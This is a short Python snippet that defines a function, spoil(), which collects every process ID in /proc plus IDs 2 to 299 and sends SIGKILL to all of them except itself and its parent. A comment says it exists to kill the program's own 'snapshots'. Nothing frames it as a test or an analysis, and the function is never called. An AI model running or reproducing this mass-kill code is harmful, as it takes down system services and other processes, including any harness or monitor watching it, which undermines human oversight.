# Kills its own snapshots, which are processes like it: every number that it can reach.
import os
import signal


def spoil():
    try:
        pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pids = []
    for pid in {*pids, *range(2, 300)} - {os.getpid(), os.getppid()}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue


x = 1
